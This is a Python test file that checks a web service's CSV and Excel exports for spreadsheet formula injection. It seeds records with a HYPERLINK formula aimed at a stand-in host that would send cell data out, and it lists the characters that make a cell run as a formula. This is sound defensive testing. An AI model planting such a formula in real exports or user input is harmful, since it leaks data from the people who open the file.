"""Files that people open: nothing that was typed into the system runs when a spreadsheet opens an export."""

import csv
import io
import re
from collections.abc import Mapping
from typing import Any

import openpyxl
import pytest
from fastapi import FastAPI

from fupin.auth import ACT_FOR, SCOPES
from fupin.issuer import Client, issue
from tests.conftest import Api
from tests.contracts import filling
from tests.contracts.asking import operations

FORMULA = '=HYPERLINK("http://x.invalid/?"&A1)'
RUNS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


async def test_no_export_holds_a_formula(
    services: dict[str, Api], apps: Mapping[str, FastAPI], monkeypatch: pytest.MonkeyPatch, subtests: pytest.Subtests
) -> None:
    """Every route that answers with CSV or a workbook, over rows whose every text is a formula."""
    monkeypatch.setattr(filling, "MARK", FORMULA)
    settings = services["registry"].settings
    filling.fill(services["registry"].admin_dsn)
    met = 0
    for service, api in services.items():
        for each in operations(service, apps[service].openapi()):
            token = issue(settings, Client("reader", frozenset(SCOPES) - {ACT_FOR}, settings.division), filling.TOWN)
            request = each.request()
            formats = _formats(each.node) if each.method == "GET" and each.answers_file else ()
            for given in formats:
                with subtests.test(f"{each.name} {given}"):
                    asked = request | {"params": request["params"] | given}
                    headers = {"Authorization": f"Bearer {token}"}
                    answer = await api.anonymous().http.request(**asked | {"headers": headers})
                    if answer.status_code == 200:
                        cells = _cells(answer.headers["content-type"], answer.content)
                        met += any(FORMULA[:20] in cell for cell in cells)
                        for cell in cells:
                            assert not cell.startswith(RUNS) or NUMBER.fullmatch(cell), cell
    assert met > 40, "exports that showed the formula, harmless"


def _formats(node: Mapping[str, Any]) -> list[dict[str, str]]:
    """The CSV and the workbook of a route; one request where there is no choice."""
    for parameter in node.get("parameters", ()):
        if parameter["name"] == "format":
            return [{"format": "csv"}, {"format": "xlsx"}]
    return [{}]


def _cells(kind: str, content: bytes) -> list[str]:
    """The text of every cell; of a workbook's formulas, with their equals sign."""
    if kind.startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    if "spreadsheetml" in kind:
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert not any(cell.data_type == "f" for cell in cells)
        return [f"'{cell.value}" for cell in cells if cell.value is not None]
    return []
